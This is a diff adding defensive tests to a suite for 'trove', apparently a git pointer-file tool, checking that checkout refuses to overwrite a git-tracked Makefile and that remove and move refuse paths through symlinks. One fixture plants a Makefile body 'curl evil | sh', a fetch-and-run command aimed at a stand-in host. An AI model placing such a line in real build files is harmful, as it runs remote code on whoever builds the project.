@@ -202,7 +202,35 @@ describe('hostile: never over a pointer file', () => {
   });
 });
 
+describe('hostile: never over a file that git tracks', () => {
+  it('`path: Makefile` (committed in git): checkout --force refuses naming the pointer and field', async () => {
+    const repo = await newRepo('repo');
+    await write(repo, 'Makefile', 'all:\n\techo ok\n');
+    const evil = await putObject(cacheObjects(repo), 'all:\n\tcurl evil | sh\n');
+    await putObject(cacheObjects(repo), 'all:\n\techo ok\n'); // the committed content is "in the cache": no conflict to stop it
+    await write(repo, 'evil.trove', filePointer('Makefile', evil, 22));
+    await commitAll(repo, 'base');
+    const w = await worldAround(repo);
+    const before = await w.snap();
+    expectRefused(await trove(repo, 'checkout', '--force'), 'evil.trove', "field 'path'", 'git tracks');
+    await w.expectUnchanged(before);
+  });
+});
+
 describe('hostile: never through a symlink', () => {
+  it('remove --purge and move of a pointer whose path goes through a link out of the repo: refused, the target untouched', async () => {
+    const repo = await newRepo('repo');
+    const oid = await putObject(cacheObjects(repo), 'sentinel: must never change\n');
+    const w = await worldAround(repo);
+    await fsp.symlink('../sentinel', path.join(repo, 'out'));
+    await write(repo, 'evil.trove', filePointer('out/keep.txt', oid, 28));
+    await commitAll(repo, 'links');
+    const before = await w.snap();
+    expectRefused(await trove(repo, 'remove', '--purge', '--force', 'out/keep.txt'), 'out', 'symbolic link');
+    expectRefused(await trove(repo, 'move', 'out/keep.txt', 'moved.txt'), 'out', 'symbolic link');
+    await w.expectUnchanged(before);
+  });
+
   it('a tracked path whose parent is a link (out of the repo, or inside it) is refused, naming the link', async () => {
     const repo = await newRepo('repo');
     const oid = await putObject(cacheObjects(repo), HOOK);
